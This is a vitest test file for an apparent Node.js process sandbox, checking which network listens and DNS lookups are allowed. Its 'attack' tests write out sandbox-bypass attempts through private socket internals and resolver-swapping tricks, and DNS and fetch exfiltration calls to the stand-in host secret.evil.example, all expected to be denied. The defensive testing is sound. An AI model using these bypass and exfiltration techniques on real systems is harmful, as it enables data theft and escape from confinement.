/** Listening and name servers of a guarded process: network connect to the local end, to the name and to the server. */
import { type Socket, createSocket } from "node:dgram";
import { once } from "node:events";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { afterAll, expect, it } from "vitest";
import { entry } from "../../packages/sallyport/src/testing/sallyport-fixture.ts";
import { type GuardedWorld, openWorld, outcomes } from "./guarded-process.ts";
import { freePort } from "./loopback.ts";
import { worldOfFile } from "./world-of-file.ts";

let world: GuardedWorld;
let nameServer: Socket;
let port: number;
/** Questions that reached the name server. */
let asked = 0;

/** Answers every question with one address. */
function answer(question: Buffer): Buffer {
  const head = Buffer.from(question.subarray(0, 12));
  head.writeUInt16BE(0x8180, 2);
  head.writeUInt16BE(1, 6);
  head.writeUInt16BE(0, 10);
  let end = 12;
  while (question[end] !== 0) end += (question[end] as number) + 1;
  const record = Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 9, 0, 4, 192, 0, 2, 7]);
  return Buffer.concat([head, question.subarray(12, end + 5), record]);
}

worldOfFile(async (preload) => {
  nameServer = createSocket("udp4", (question, from) => {
    asked += 1;
    nameServer.send(answer(question), from.port, from.address);
  });
  nameServer.bind(0, "127.0.0.1");
  await once(nameServer, "listening");
  port = await freePort();
  world = await openWorld(preload, (folder) => [
    entry("network", "connect", `localhost:${port}`),
    entry("network", "connect", `unix:${join(folder, "all", "served.sock")}`),
    entry("network", "connect", `unix:${join(folder, "secret", "served.sock")}`),
    entry("network", "connect", `127.0.0.1:${nameServer.address().port}`),
    entry("network", "connect", "known.example"),
    entry("network", "connect", "192.0.2.7"),
  ]);
  return world;
});
afterAll(() => void nameServer.close());

const BEFORE = (): string => `
const net = require("net"), dns = require("dns"), http = require("http");
const port = ${port}, dnsPort = ${nameServer.address().port};
const listening = (server, ...args) => new Promise((done, failed) => server.on("error", failed).listen(...args, () => { const at = server.address(); server.close(); done(typeof at === "string" ? "path" : at.address + (at.port === port ? ":port" : "")); }));
const resolver = (Resolver) => { const one = new Resolver({ timeout: 60_000, tries: 1 }); one.setServers(["127.0.0.1:" + dnsPort]); return one; };
`;

it("listens where it is declared, by port, by name, by path and for HTTP, and answers there", async () => {
  const found = await outcomes(
    world,
    `address: () => listening(net.createServer(), port, "127.0.0.1"),
     name: () => listening(net.createServer(), { port, host: "localhost", backlog: 5 }),
     path: () => listening(net.createServer(), at.all + "/served.sock"),
     served: () => new Promise((done, failed) => {
       const server = http.createServer((_, response) => response.end("served")).on("error", failed);
       server.listen(port, "127.0.0.1", () => {
         let text = "";
         const socket = net.connect(port, "127.0.0.1").on("data", (data) => (text += data)).on("end", () => { server.close(); done(text.split("\\r\\n").at(-1)); });
         socket.write("GET / HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n");
       });
     })`,
    { before: BEFORE(), waitMs: 0 },
  );
  expect(found).toEqual({
    address: "127.0.0.1:port",
    name: expect.stringMatching(/^(?:127\.0\.0\.1|::1):port$/),
    path: "path",
    served: "served",
  });
});

it("attack: listening elsewhere, everywhere, at a socket from elsewhere, or below `listen` is refused", async () => {
  const found = await outcomes(
    world,
    `port: () => listening(net.createServer(), port + 1, "127.0.0.1"),
     anyPort: () => listening(net.createServer(), 0, "127.0.0.1"),
     anywhere: () => listening(net.createServer(), port),
     web: () => listening(http.createServer(), 0),
     file: () => listening(net.createServer(), at.secret + "/served.sock"),
     abstract: () => listening(net.createServer(), "\\0abstract"),
     descriptor: () => listening(net.createServer(), { fd: 0 }),
     handle: () => listening(net.createServer(), { _handle: {} }),
     below: () => new Promise((done, failed) => { const server = net.createServer().on("error", failed).on("listening", () => done("listening")); server._listen2("127.0.0.1", 0, 4, 5); }),
     native: () => new Promise((done, failed) => { const server = net.createServer().on("error", failed).listen(port, "127.0.0.1", () => { const Class = server._handle.constructor; server.close(); try { done(new Class(1).bind("127.0.0.1", 0)); } catch (error) { failed(error); } }); })`,
    { before: BEFORE(), waitMs: 0 },
  );
  for (const [name, outcome] of Object.entries(found))
    expect(`${name}: ${String(outcome)}`).toMatch(/ERR_ACCESS_DENIED/);
  expect(existsSync(join(world.places.secret, "served.sock"))).toBe(false);
});

it("asks a declared name server for a declared name, by callback, promise and instance", async () => {
  const found = await outcomes(
    world,
    `instance: () => new Promise((done, failed) => resolver(dns.Resolver).resolve4("KNOWN.example", (error, list) => (error ? failed(error) : done(list.join())))),
     promised: () => resolver(dns.promises.Resolver).resolve("known.example", "A").then((list) => list.join()),
     shared: () => { dns.setServers(["127.0.0.1:" + dnsPort]); return dns.promises.resolve4("known.example").then((list) => list.join()); },
     called: () => new Promise((done, failed) => dns.resolve4("known.example", (error, list) => (error ? failed(error) : done(list.join()))))`,
    { before: BEFORE(), waitMs: 0 },
  );
  const address = "192.0.2.7";
  expect(found).toEqual({ instance: address, promised: address, shared: address, called: address });
});

it("attack: data leaves in the name of a question, or to a name server of its own", async () => {
  asked = 0;
  const found = await outcomes(
    world,
    `question: () => resolver(dns.promises.Resolver).resolve4("secret.evil.example"),
     text: () => new Promise((done, failed) => resolver(dns.Resolver).resolveTxt("secret.evil.example", (error, list) => (error ? failed(error) : done(list)))),
     any: () => resolver(dns.promises.Resolver).resolveAny("secret.evil.example"),
     reverse: () => resolver(dns.promises.Resolver).reverse("192.0.2.8"),
     service: () => dns.promises.lookupService("192.0.2.8", 80),
     looked: () => dns.promises.lookup("secret.evil.example"),
     connected: () => new Promise((_, failed) => net.connect(80, "secret.evil.example").on("error", failed)),
     fetched: () => fetch("http://secret.evil.example/").catch((error) => { throw error.cause; }),
     server: () => new dns.Resolver().setServers(["192.0.2.9"]),
     port: () => new dns.promises.Resolver().setServers(["127.0.0.1:1"]),
     six: () => dns.setServers(["[2001:db8::1]:5353"]),
     flips: () => { let reads = 0; const list = ["127.0.0.1:" + dnsPort]; Object.defineProperty(list, 0, { get: () => (reads++ === 0 ? "192.0.2.9" : "127.0.0.1:" + dnsPort) }); return dns.setServers(list); },
     method: () => Object.getPrototypeOf(dns.Resolver.prototype).setServers.call(new dns.Resolver(), ["192.0.2.9"])`,
    { before: BEFORE(), waitMs: 0 },
  );
  for (const [name, outcome] of Object.entries(found))
    expect(`${name}: ${String(outcome)}`).toMatch(/ERR_ACCESS_DENIED/);
  expect(asked).toBe(0);
});
